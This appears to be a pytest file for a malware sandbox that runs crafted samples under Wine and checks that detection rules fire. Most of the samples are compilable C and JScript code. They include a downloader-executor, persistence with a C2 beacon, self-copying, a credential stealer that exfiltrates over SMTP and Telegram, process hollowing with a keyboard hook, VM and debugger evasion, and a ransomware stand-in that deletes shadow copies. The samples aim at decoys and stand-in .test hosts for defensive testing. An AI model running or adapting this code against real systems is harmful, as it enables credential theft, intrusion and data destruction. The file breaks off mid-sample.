"""Windows behaviour rules on crafted samples detonated under Wine (the process backend's sandbox),
plus the parts they rest on: Wine's trace parser (relay calls, process table, SaveToFile),
the prefix seeding (shell folders, decoy credential stores, ADO's type library).

The samples are C programs built with mingw-w64 (64- and 32-bit: the rules do not depend on
the bitness) and JScript run by Wine's wscript.  They do what malware does, to decoys and the
simulated internet: download and run a stand-in, persist, copy themselves, steal decoy
credentials and mail them out, inject, hook the keyboard, check for analysis, encrypt decoy
documents.  Each test asserts the rule ids and that the verdict is malicious.
"""

from __future__ import annotations

import os
import sqlite3
import struct
from pathlib import Path

import pytest

from behaviour_helpers import (WINE_TEMPLATE, compile_pe, detail, events, ids, mingw_missing, run_sample,
                               wine_missing)
from mailvm.guest import wine as W
from mailvm.guest import windecoys as D
from mailvm.guest.winpath import win_to_unix

# ------------------------------------------------------------------ pure: paths, the trace parser


@pytest.mark.parametrize("win,unix", [
    (r"C:\users\user\Temp\a.exe", "/home/user/.wine/drive_c/users/user/Temp/a.exe"),
    (r"\??\C:\windows\system32\cmd.exe", "/home/user/.wine/drive_c/windows/system32/cmd.exe"),
    (r"\\?\C:\users\user\AppData\Roaming\x.exe", "/home/user/.wine/drive_c/users/user/AppData/Roaming/x.exe"),
    (r"Z:\work\invoice.exe", "/work/invoice.exe"),
    (r"c:\Users\USER\Documents\report.docx", "/home/user/Documents/report.docx"),  # a shell folder: the HOME's
    (r'"C:\users\user\Desktop"', "/home/user/Desktop"),
    (r"D:\x.exe", ""), (r"\\server\share\x.exe", ""), ("x.exe", ""), ("", ""),
])
def test_windows_paths_map_into_the_prefix(win, unix):
    assert win_to_unix(win) == unix


# real lines of Wine 8's trace (WINEDEBUG=+relay with RelayInclude = wine.RELAY_INCLUDE, +process, +loaddll)
TRACE = r'''0024:trace:loaddll:build_module Loaded L"Z:\\work\\stealer.exe" at 0000000140000000: native
0024:Call KERNEL32.CopyFileA(0021fc20 "Z:\\work\\stealer.exe",0021fb10 "C:\\users\\user\\AppData\\Roaming\\s.exe",00000000) ret=14000158a
0024:Call KERNEL32.CreateProcessA(00000000,0021fb10 "C:\\windows\\system32\\notepad.exe",00000000,00000000,100000000,100000004,00000000,00000000,0021f890,0021f870) ret=140001648
0024:trace:process:NtCreateUserProcess L"\\??\\C:\\windows\\system32\\notepad.exe" image L"C:\\windows\\system32\\notepad.exe" cmdline L"C:\\windows\\system32\\notepad.exe" parent (nil)
0024:trace:process:NtCreateUserProcess L"\\??\\C:\\windows\\system32\\notepad.exe" pid 00c4 tid 00c8 handles 0x60/0x64
0024:Call ntdll.NtUnmapViewOfSection(ffffffffffffffff,10000000) ret=7b03ed79
0024:Call ntdll.NtUnmapViewOfSection(00000058,7ff000000000) ret=14000172a
0024:Call KERNEL32.Sleep(000003e7) ret=1400017b9
0024:Call KERNEL32.Sleep(0000afc8) ret=1400017b9
0024:Call KERNEL32.SleepEx(ffffffff,00000001) ret=3be836f0c
0024:Call KERNEL32.GetModuleHandleA(140004044 "SbieDll.dll") ret=1400015c9
0024:Call KERNEL32.GetModuleHandleW(00000000) ret=1400015c9
00c8:Call user32.SetWindowsHookExA(0000000d,140001530,140000000,00000000) ret=140001777
0024:Call KERNEL32.GetTickCount() ret=140001777
0024:trace:process:CreateProcessInternalW app (null) cmdline L"vssadmin delete shadows /all /quiet"
00d0:fixme:msado15:stream_SaveToFile 00000000010AA6E0, L"C:\\users\\user\\Temp\\dogovr2208.exe", 2
0024:Starting thread proc 0000000140001000 (arg=0000000067FF0000)'''


def test_trace_parser_reads_relay_calls_processes_and_save_to_file():
    p = W.WineTraceParser()
    evs = [e for line in TRACE.splitlines() for e in p.feed(line)]
    api = [(e["fn"], e["args"], e.get("proc")) for e in evs if e["type"] == "api"]
    assert api == [
        ("CopyFileA", [r"Z:\work\stealer.exe", r"C:\users\user\AppData\Roaming\s.exe", "0x0"], "stealer.exe"),
        ("CreateProcessA", ["0x0", r"C:\windows\system32\notepad.exe", "0x0", "0x0", "0x100000000", "0x100000004",
                            "0x0", "0x0", "0x21f890", "0x21f870"], "stealer.exe"),
        ("NtUnmapViewOfSection", ["0x58", "0x7ff000000000"], "stealer.exe"),  # the own process's: dropped
        ("Sleep", ["0xafc8"], "stealer.exe"),  # under 1 s and INFINITE waits: dropped
        ("GetModuleHandleA", ["SbieDll.dll"], "stealer.exe"),  # a module of its own (NULL): dropped
        ("SetWindowsHookExA", ["0xd", "0x140001530", "0x140000000", "0x0"], "notepad.exe"),  # the child's thread
    ]
    execs = [(e["type"], e["path"], e["argv"][0]) for e in evs if e["type"].startswith("exec")]
    assert execs == [("exec", r"C:\windows\system32\notepad.exe", r"C:\windows\system32\notepad.exe"),
                     ("exec_request", "vssadmin", "vssadmin delete shadows /all /quiet")]
    [save] = [e for e in evs if e["type"] == "file"]
    assert (save["path"], save["ok"], save["api"]) == (
        "/home/user/.wine/drive_c/users/user/Temp/dogovr2208.exe", False, "ADODB.Stream.SaveToFile")
    assert {e["type"] for e in evs} == {"image", "api", "exec", "exec_request", "file"}


def test_relay_calls_are_capped_per_function():
    p = W.WineTraceParser()
    line = "0024:Call KERNEL32.Sleep(00007530) ret=140001000"
    n = sum(len(p.feed(line)) for _ in range(W.MAX_CALLS_PER_FUNCTION + 20))
    assert n == W.MAX_CALLS_PER_FUNCTION


def test_relay_include_names_only_real_functions_of_the_rules():
    assert W.RELAY_INCLUDE.count(";") == len(W.RELAY_FUNCTIONS) - 1
    assert all(f.split(".")[0] in ("kernel32", "ntdll", "user32", "advapi32") for f in W.RELAY_FUNCTIONS)
    from mailvm.guest import execproof
    assert execproof.RELAY_INCLUDE == W.RELAY_INCLUDE  # one list: the proof markers need relay on as well


@pytest.mark.parametrize("line", [
    "0024:Call KERNEL32.Sleep(", "0024:Call KERNEL32.CopyFileA(\"unterminated", "0024:Call x.y() ret=zz",
    "0024:trace:process:NtCreateUserProcess L\"\\\\??\\\\C:\\\\x.exe\" pid zz tid", ":Call " * 1000, "\x00" * 50,
])
def test_hostile_trace_lines_do_not_raise(line):
    W.WineTraceParser().feed(line)


# ------------------------------------------------------------------ prefix seeding (file system only)


def test_seed_prefix_links_shell_folders_writes_decoys_and_registry(tmp_path):
    prefix = tmp_path / "pfx"
    udir = prefix / "drive_c" / "users" / "user"
    udir.mkdir(parents=True)
    (udir / "Documents").symlink_to("/nonexistent-template-home")
    (prefix / "user.reg").write_text("WINE REGISTRY Version 2\n")
    (prefix / "system.reg").write_text("WINE REGISTRY Version 2\n")
    uid, gid = os.getuid(), os.getgid()
    D.seed_prefix(str(prefix), uid, gid)
    assert os.readlink(udir / "Documents") == "/home/user/Documents"
    assert os.readlink(udir / "Desktop") == "/home/user/Desktop"
    login = udir / "AppData/Local/Google/Chrome/User Data/Default/Login Data"
    with sqlite3.connect(login) as con:
        assert con.execute("select username_value from logins").fetchone() == ("j.doe@example.com",)
    assert (udir / "AppData/Roaming/FileZilla/sitemanager.xml").read_bytes().startswith(b"<?xml")
    assert (udir / "AppData/Roaming/Mozilla/Firefox/Profiles/k3x9w2.default-release/logins.json").exists()
    assert oct(login.stat().st_mode & 0o777) == "0o600"
    reg = (prefix / "user.reg").read_text()
    assert "[Software\\\\SimonTatham\\\\PuTTY\\\\Sessions\\\\prod-db] " in reg
    assert '"HostName"="db01.corp.example.com"' in reg and '"PortNumber"=dword:00000016' in reg
    assert "Martin Prikryl\\\\WinSCP 2\\\\Sessions" in reg and "Outlook\\\\Profiles" in reg
    D.seed_prefix(str(prefix), uid, gid)  # idempotent enough: a second seeding replaces, never writes through
    assert os.readlink(udir / "Documents") == "/home/user/Documents"


def _minimal_pe_with_typelib(blob: bytes) -> bytes:
    """A PE32+ whose only section is a resource directory TYPELIB/1/1033 -> blob."""
    rva = 0x1000
    root = struct.pack("<IIHHHH", 0, 0, 0, 0, 1, 0) + struct.pack("<II", 0x80000000 | 0x48, 0x80000000 | 0x18)
    lvl2 = struct.pack("<IIHHHH", 0, 0, 0, 0, 0, 1) + struct.pack("<II", 1, 0x80000000 | 0x30)
    lvl3 = struct.pack("<IIHHHH", 0, 0, 0, 0, 0, 1) + struct.pack("<II", 1033, 0x58)
    name = struct.pack("<H", 7) + "TYPELIB".encode("utf-16-le")
    data_entry = struct.pack("<IIII", rva + 0x80, len(blob), 0, 0)
    rsrc = (root + lvl2 + lvl3).ljust(0x48, b"\0") + name.ljust(0x10, b"\0") + data_entry
    rsrc = rsrc.ljust(0x80, b"\0") + blob
    dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x40)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x2022)
    opt = bytearray(0xF0)
    struct.pack_into("<H", opt, 0, 0x20B)
    struct.pack_into("<II", opt, 112 + 16, rva, len(rsrc))  # data directory 2: resources
    sect = struct.pack("<8sIIIIIIHHI", b".rsrc", len(rsrc), rva, len(rsrc), 0x200, 0, 0, 0, 0, 0x40000040)
    return (dos + b"PE\0\0" + coff + bytes(opt) + sect).ljust(0x200, b"\0") + rsrc


def test_typelib_is_extracted_and_registered_as_version_1_0(tmp_path):
    blob = b"MSFT" + struct.pack("<I", 0x00010002) + b"\0" * 16 + struct.pack("<HH", 2, 8) + b"\0" * 60
    assert D.extract_typelib(_minimal_pe_with_typelib(blob)) == blob
    assert D.extract_typelib(b"MZ" + b"\0" * 100) is None and D.extract_typelib(b"") is None
    prefix = tmp_path / "pfx"
    dll = prefix / "drive_c" / D._ADO_DLL[0]
    dll.parent.mkdir(parents=True)
    dll.write_bytes(_minimal_pe_with_typelib(blob))
    (prefix / "drive_c/windows/system32").mkdir(parents=True)
    (prefix / "system.reg").write_text("WINE REGISTRY Version 2\n")
    assert D.register_adodb_typelib(str(prefix), os.getuid(), os.getgid())
    tlb = (prefix / "drive_c/windows/system32" / D.ADODB_TLB).read_bytes()
    assert tlb[:4] == b"MSFT" and struct.unpack_from("<HH", tlb, 0x18) == (1, 0)
    reg = (prefix / "system.reg").read_text()
    assert f"Typelib\\\\{D.ADODB_LIBID}\\\\1.0\\\\0\\\\win64]" in reg
    assert '@="C:\\\\windows\\\\system32\\\\msado15-v1.tlb"' in reg


def test_registry_diff_compares_key_names_without_case():
    before = {r"HKLM\Software\Classes\TypeLib\{X}\1.0": {"@": '"ADO"'}}
    after = {r"HKLM\Software\Classes\Typelib\{X}\1.0": {"@": '"ADO"'}}
    assert W.diff_registry(before, after) == []
    after[r"HKLM\Software\Classes\Typelib\{X}\1.0"]["FLAGS"] = '"0"'
    assert [(e["type"], e["value"]) for e in W.diff_registry(before, after)] == [("reg_set", "FLAGS")]


@pytest.mark.skipif(not os.path.isfile(os.path.join(WINE_TEMPLATE, "drive_c", D._ADO_DLL[0])),
                    reason=f"no Wine prefix template at {WINE_TEMPLATE} (the Wine tests below create it)")
def test_wines_own_ado_library_has_a_type_library():
    with open(os.path.join(WINE_TEMPLATE, "drive_c", D._ADO_DLL[0]), "rb") as fh:
        blob = D.extract_typelib(fh.read())
    assert blob is not None and blob[:4] == b"MSFT"


# ------------------------------------------------------------------ real samples under Wine

WINE64 = wine_missing(64) or mingw_missing(64)
WINE32 = wine_missing(32) or mingw_missing(32)
WSH = wine_missing(64)


@pytest.fixture
def wine_template(monkeypatch):
    monkeypatch.setenv(W.TEMPLATE_ENV, WINE_TEMPLATE)


DOWNLOADER = r"""
#include <windows.h>
#include <urlmon.h>
int main(void) {
    char path[MAX_PATH];
    GetTempPathA(MAX_PATH, path);
    lstrcatA(path, "svcupdate.exe");
    if (URLDownloadToFileA(NULL, "http://cdn.example-updates.test/files/svcupdate.exe", path, 0, NULL) == S_OK) {
        STARTUPINFOA si = {sizeof si};
        PROCESS_INFORMATION pi;
        if (CreateProcessA(path, NULL, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi))
            WaitForSingleObject(pi.hProcess, 10000);
    }
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE32 is not None, reason=f"32-bit Wine test unavailable: {WINE32}")
def test_32bit_downloader_runs_its_download_and_is_malicious(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, DOWNLOADER, "dl", bits=32, libs=("urlmon",)), "Rechnung_0922.exe",
                   timeout_s=60, stop_on_malicious=False)
    assert r["launcher"] == "wine_pe32" and r["executed"], r["execution"]
    assert r["verdict"] == "malicious", r["findings"]
    assert {"download_execute", "drop_execute", "downloads_executable"} <= ids(r)
    assert "/home/user/.wine/drive_c/users/user/Temp/svcupdate.exe" in detail(r, "download_execute")
    [http] = [e for e in events(r, "http") if e["path"] == "/files/svcupdate.exe"]
    assert (http["standin"], http["standin_by"]) == ("pe_exe", "name")
    # the stand-in really ran: Wine loaded it as the new process's image
    assert any(e.get("src") == "wine" and e["path"].lower().endswith("svcupdate.exe") for e in events(r, "exec"))


PERSIST = r"""
#include <windows.h>
#include <wininet.h>
static void run(const char *cmd) {
    STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi; char buf[512];
    lstrcpynA(buf, cmd, sizeof buf);
    if (CreateProcessA(NULL, buf, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi))
        WaitForSingleObject(pi.hProcess, 15000);
}
int main(void) {
    run("schtasks /create /f /sc onlogon /tn \"OneDrive Update\" /tr \"C:\\users\\user\\AppData\\Roaming\\odupd.exe\"");
    run("sc create odupdsvc binPath= \"C:\\users\\user\\AppData\\Roaming\\odupd.exe\" start= auto");
    HINTERNET h = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET u = InternetOpenUrlA(h, "http://panel.example-c2.test/gate.php?id=4711", NULL, 0, INTERNET_FLAG_RELOAD, 0);
    char b[256]; DWORD n = 0;
    if (u) { InternetReadFile(u, b, sizeof b, &n); InternetCloseHandle(u); }
    InternetCloseHandle(h);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_scheduled_task_service_and_c2_add_up(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, PERSIST, "persist", libs=("wininet",)), "setup.exe", timeout_s=60,
                   stop_on_malicious=False)
    assert r["verdict"] == "malicious" and r["score"] == 10, r["findings"]
    assert {"persistence_scheduled_task", "persistence_service", "http_request", "combo_persistence_c2"} <= ids(r)
    assert "/create" in detail(r, "persistence_scheduled_task") and "binPath=" in detail(r, "persistence_service")
    assert any(e["url"] == "http://panel.example-c2.test/gate.php?id=4711" for e in events(r, "http"))


SELF_COPY = r"""
#include <windows.h>
#include <shlobj.h>
int main(int argc, char **argv) {
    if (argc > 1) return 0;  /* the copy, started with an argument: does nothing */
    char self[MAX_PATH], dst[MAX_PATH], cmd[MAX_PATH + 16];
    GetModuleFileNameA(NULL, self, MAX_PATH);
    SHGetFolderPathA(NULL, CSIDL_APPDATA, NULL, 0, dst);
    lstrcatA(dst, "\\WinSvcHost.exe");
    if (!CopyFileA(self, dst, FALSE)) return 1;
    wsprintfA(cmd, "\"%s\" --child", dst);
    STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi;
    if (CreateProcessA(NULL, cmd, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi)) WaitForSingleObject(pi.hProcess, 10000);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE32 is not None, reason=f"32-bit Wine test unavailable: {WINE32}")
def test_32bit_self_copy_into_appdata_and_its_execution(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, SELF_COPY, "sc", bits=32, libs=("shell32",)), "scan_0041.exe",
                   timeout_s=60, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"self_copy", "self_copy_executed"} <= ids(r)
    assert r"Z:\work\scan_0041.exe -> C:\users\user\AppData\Roaming\WinSvcHost.exe" in detail(r, "self_copy")
    assert "library_from_writable_dir" not in ids(r)  # the copy's image is an execution, not a DLL


STEALER = r"""
#include <winsock2.h>
#include <windows.h>
#include <shlobj.h>
#include <wininet.h>
#include <stdio.h>
static int slurp(const char *path) {
    HANDLE f = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING, 0, NULL);
    if (f == INVALID_HANDLE_VALUE) return 0;
    char b[4096]; DWORD n = 0; ReadFile(f, b, sizeof b, &n, NULL); CloseHandle(f); return (int)n;
}
static void say(SOCKET s, const char *line) { char r[512]; send(s, line, lstrlenA(line), 0); recv(s, r, sizeof r, 0); }
int main(void) {
    char local[MAX_PATH], roaming[MAX_PATH], p[MAX_PATH * 2]; int total = 0;
    SHGetFolderPathA(NULL, CSIDL_LOCAL_APPDATA, NULL, 0, local);
    SHGetFolderPathA(NULL, CSIDL_APPDATA, NULL, 0, roaming);
    sprintf(p, "%s\\Google\\Chrome\\User Data\\Default\\Login Data", local); total += slurp(p);
    sprintf(p, "%s\\Mozilla\\Firefox\\Profiles\\k3x9w2.default-release\\logins.json", roaming); total += slurp(p);
    sprintf(p, "%s\\FileZilla\\recentservers.xml", roaming); total += slurp(p);
    HKEY k;
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\SimonTatham\\PuTTY\\Sessions", 0, KEY_READ, &k) == 0) RegCloseKey(k);
    WSADATA w; WSAStartup(MAKEWORD(2, 2), &w);
    struct hostent *he = gethostbyname("smtp.example-mail.test");
    if (he) {
        SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(587);
        memcpy(&a.sin_addr, he->h_addr_list[0], 4);
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
            char r[512]; recv(s, r, sizeof r, 0);
            say(s, "EHLO DESKTOP-7F3A\r\n"); say(s, "AUTH LOGIN\r\n"); say(s, "c3RlYWxlckBleGFtcGxlLW1haWwudGVzdA==\r\n");
            say(s, "cGFzcw==\r\n"); say(s, "MAIL FROM:<stealer@example-mail.test>\r\n");
            say(s, "RCPT TO:<drop@example-mail.test>\r\n"); say(s, "DATA\r\n");
            char msg[256]; sprintf(msg, "Subject: PW_user_DESKTOP-7F3A\r\n\r\n%d bytes of passwords\r\n.\r\n", total);
            say(s, msg); say(s, "QUIT\r\n");
        }
        closesocket(s);
    }
    HINTERNET h = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET u = InternetOpenUrlA(h, "https://api.telegram.org/bot7001:AAE/sendMessage?chat_id=1&text=hi", NULL, 0,
                                   INTERNET_FLAG_RELOAD, 0);
    if (u) InternetCloseHandle(u);
    InternetCloseHandle(h);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_stealer_reads_decoy_stores_and_exfiltrates_over_smtp_and_telegram(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, STEALER, "st", libs=("shell32", "ws2_32", "wininet")),
                   "Payment_Advice.exe", timeout_s=60, stop_on_malicious=False)
    assert r["verdict"] == "malicious" and r["score"] == 10, r["findings"]
    assert {"credential_access", "exfil_smtp", "exfil_messaging_api", "combo_credentials_exfil"} <= ids(r)
    reads = {e["path"] for e in events(r, "file") if e.get("op") == "read"}
    udir = "/home/user/.wine/drive_c/users/user"
    assert {f"{udir}/AppData/Local/Google/Chrome/User Data/Default/Login Data",
            f"{udir}/AppData/Roaming/FileZilla/recentservers.xml"} <= reads
    assert any(e["key"].endswith(r"SimonTatham\PuTTY\Sessions") for e in events(r, "reg_open"))
    [mail] = [e for e in events(r, "smtp") if e.get("message")]
    assert (mail["auth_user"], mail["rcpt"], mail["subject"]) == (
        "stealer@example-mail.test", ["drop@example-mail.test"], "PW_user_DESKTOP-7F3A")
    assert "Telegram" in detail(r, "exfil_messaging_api")


INJECT = r"""
#include <windows.h>
#include <wininet.h>
typedef LONG (NTAPI *unmap_t)(HANDLE, PVOID);
static LRESULT CALLBACK kb(int c, WPARAM w, LPARAM l) { return CallNextHookEx(NULL, c, w, l); }
int main(void) {
    if (IsDebuggerPresent()) return 0;
    STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi;
    char target[] = "C:\\windows\\system32\\notepad.exe";
    if (CreateProcessA(NULL, target, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi)) {
        unmap_t unmap = (unmap_t)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtUnmapViewOfSection");
        unmap(pi.hProcess, (PVOID)0x7ff000000000);   /* where nothing is mapped */
        void *mem = VirtualAllocEx(pi.hProcess, NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
        unsigned char ret = 0xc3; SIZE_T n;
        WriteProcessMemory(pi.hProcess, mem, &ret, 1, &n);
        CONTEXT ctx; ctx.ContextFlags = CONTEXT_FULL;
        GetThreadContext(pi.hThread, &ctx); SetThreadContext(pi.hThread, &ctx);
        TerminateProcess(pi.hProcess, 0);   /* never resumed: nothing of it runs */
    }
    HHOOK h = SetWindowsHookExA(WH_KEYBOARD_LL, kb, GetModuleHandleA(NULL), 0);
    if (h) UnhookWindowsHookEx(h);
    HINTERNET i = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET u = InternetOpenUrlA(i, "http://198.51.100.40/cfg.bin", NULL, 0, INTERNET_FLAG_RELOAD, 0);
    if (u) InternetCloseHandle(u);
    InternetCloseHandle(i);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_hollowing_injection_keyboard_hook_and_debugger_check(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, INJECT, "inj", libs=("wininet",)), "Photo_2024.scr", timeout_s=60,
                   stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"process_hollowing", "process_injection", "keyboard_hook", "anti_debug", "network_raw_ip",
            "combo_injection_c2", "combo_keylogger_exfil"} <= ids(r)
    assert "notepad.exe suspended" in detail(r, "process_hollowing")
    assert "WH_KEYBOARD_LL" in detail(r, "keyboard_hook")


RANSOM = r"""
#include <windows.h>
#include <shlobj.h>
#include <stdio.h>
int main(void) {
    char docs[MAX_PATH], pat[MAX_PATH + 4], from[MAX_PATH * 2], to[MAX_PATH * 2 + 8];
    SHGetFolderPathA(NULL, CSIDL_PERSONAL, NULL, 0, docs);
    sprintf(pat, "%s\\*", docs);
    WIN32_FIND_DATAA fd; HANDLE h = FindFirstFileA(pat, &fd);
    if (h != INVALID_HANDLE_VALUE) {
        do {
            if (fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) continue;
            sprintf(from, "%s\\%s", docs, fd.cFileName); sprintf(to, "%s.locked", from);
            MoveFileA(from, to);
        } while (FindNextFileA(h, &fd));
        FindClose(h);
    }
    char desk[MAX_PATH], note[MAX_PATH * 2];
    SHGetFolderPathA(NULL, CSIDL_DESKTOPDIRECTORY, NULL, 0, desk);
    sprintf(note, "%s\\HOW_TO_DECRYPT_FILES.txt", desk);
    HANDLE f = CreateFileA(note, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    DWORD n; WriteFile(f, "Your files are encrypted.\r\n", 27, &n, NULL); CloseHandle(f);
    STARTUPINFOA si = {sizeof si}; PROCESS_INFORMATION pi; char cmd[] = "cmd.exe /c vssadmin delete shadows /all /quiet";
    if (CreateProcessA(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi))
        WaitForSingleObject(pi.hProcess, 10000);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_ransomware_renames_decoy_documents_drops_a_note_and_deletes_shadow_copies(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, RANSOM, "rw", libs=("shell32",)), "invoice.exe", timeout_s=60,
                   stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"mass_file_modification", "ransom_note", "shadow_copy_deletion"} <= ids(r)
    renames = [e for e in events(r, "file") if e.get("op") == "rename"]
    assert any(e["path"] == "/home/user/Documents/budget-2024.xlsx"
               and e["path2"] == "/home/user/Documents/budget-2024.xlsx.locked" for e in renames)
    assert "/home/user/Desktop/HOW_TO_DECRYPT_FILES.txt" in detail(r, "ransom_note")


EVASIVE = r"""
#include <windows.h>
#include <wininet.h>
int main(void) {
    HKEY k;
    int vm = GetModuleHandleA("SbieDll.dll") != NULL;
    vm |= RegOpenKeyExA(HKEY_LOCAL_MACHINE, "SOFTWARE\\VMware, Inc.\\VMware Tools", 0, KEY_READ, &k) == 0;
    vm |= GetFileAttributesA("C:\\windows\\system32\\drivers\\VBoxMouse.sys") != INVALID_FILE_ATTRIBUTES;
    if (vm || IsDebuggerPresent()) return 0;
    HINTERNET h = InternetOpenA("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET u = InternetOpenUrlA(h, "http://dl.example-cdn.test/tools/loader.dll", NULL, 0, INTERNET_FLAG_RELOAD, 0);
    if (u) { char b[2048]; DWORD n; InternetReadFile(u, b, sizeof b, &n); InternetCloseHandle(u); }
    InternetCloseHandle(h);
    Sleep(45000);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE32 is not None, reason=f"32-bit Wine test unavailable: {WINE32}")
def test_32bit_anti_analysis_checks_long_sleep_and_a_download(tmp_path, wine_template):
    r = run_sample(tmp_path, compile_pe(tmp_path, EVASIVE, "ev", bits=32, libs=("wininet",)), "doc_viewer.exe",
                   timeout_s=20, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"anti_vm_probe", "anti_debug", "long_sleep", "downloads_executable", "combo_download_evasion",
            "timed_out"} <= ids(r)
    vm = detail(r, "anti_vm_probe")
    assert "SbieDll.dll" in vm
    assert any("VMware Tools" in e["key"] for e in events(r, "reg_open"))
    assert "45000 ms" in detail(r, "long_sleep")


JS_ADODB = r"""
function step(m) { try { var d = new ActiveXObject("MSXML2.XMLHTTP"); d.open("GET", "http://progress.test/" + m + ".html", false); d.send(); } catch (e) {} }
var url = "http://cdn-files.example.test/docs/dogovr2208.exe";
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", url, false);
x.send();
var sh = new ActiveXObject("WScript.Shell");
var path = sh.ExpandEnvironmentStrings("%TEMP%") + "\\dogovr2208.exe";
try {
    var s = new ActiveXObject("ADODB.Stream");
    s.Type = 1; s.Open(); s.Write(x.responseBody); step("written"); s.SaveToFile(path, 2); s.Close(); step("saved");
    sh.Run(path, 0, false);
} catch (e) { step("error" + e.number); }
"""

JS_DOWNLOAD_RUN = r"""
var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://docs.example-share.test/view/invoice_viewer.vbs", false);
x.send();
var path = fso.GetSpecialFolder(2).Path + "\\invoice_viewer.vbs";
var f = fso.CreateTextFile(path, true);
f.Write(x.responseText);
f.Close();
sh.Run("wscript.exe \"" + path + "\"", 0, true);
"""


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WSH is not None, reason=f"Wine test unavailable: {WSH}")
def test_jscript_adodb_downloader_is_malicious_on_its_download(tmp_path, wine_template):
    """The issue's JScript downloader: XMLHTTP + ADODB.Stream.  Wine 8 cannot save the stream (it traces the
    attempt); asking for an .exe from a script host is what blocks it."""
    r = run_sample(tmp_path, JS_ADODB.encode(), "dogovor_2208.js", timeout_s=60, stop_on_malicious=False)
    assert r["launcher"] == "wine_wsh" and r["executed"], r["execution"]
    assert r["verdict"] == "malicious", r["findings"]
    assert {"script_host_downloads_executable", "downloads_executable", "http_request"} <= ids(r)
    assert "dogovr2208.exe" in detail(r, "script_host_downloads_executable")
    # the script reports its progress to the simulated internet: ADO's type library is registered the way
    # Wine's msado15 asks for it, so the stream was scripted up to SaveToFile, which Wine 8 leaves
    # unimplemented (E_NOTIMPL, 0x80004001)
    steps = [e["path"] for e in events(r, "http") if e.get("host") == "progress.test"]
    assert steps == ["/written.html", "/error-2147467263.html"], steps


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WSH is not None, reason=f"Wine test unavailable: {WSH}")
def test_jscript_downloads_a_script_writes_it_and_runs_it(tmp_path, wine_template):
    r = run_sample(tmp_path, JS_DOWNLOAD_RUN.encode(), "invoice.js", timeout_s=60, stop_on_malicious=False)
    assert r["verdict"] == "malicious" and r["score"] == 10, r["findings"]
    assert {"download_execute", "script_host_downloads_executable"} <= ids(r)
    assert "/home/user/.wine/drive_c/users/user/Temp/invoice_viewer.vbs" in detail(r, "download_execute")


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(WINE64 is not None, reason=f"Wine test unavailable: {WINE64}")
def test_a_program_that_runs_and_does_nothing_is_clean(tmp_path, wine_template):
    """fakenet's own PE stand-in (its entry point returns 0) is the sample that does nothing."""
    from mailvm.guest.fakenet import STANDINS

    r = run_sample(tmp_path, STANDINS["pe_exe"][1], "Invoice_2024.exe", timeout_s=60)
    assert r["executed"] and r["verdict"] == "clean" and r["findings"] == [], r["findings"]


SETTINGS = r"""
#include <windows.h>
#include <shlobj.h>
#include <stdio.h>
int main(void) {
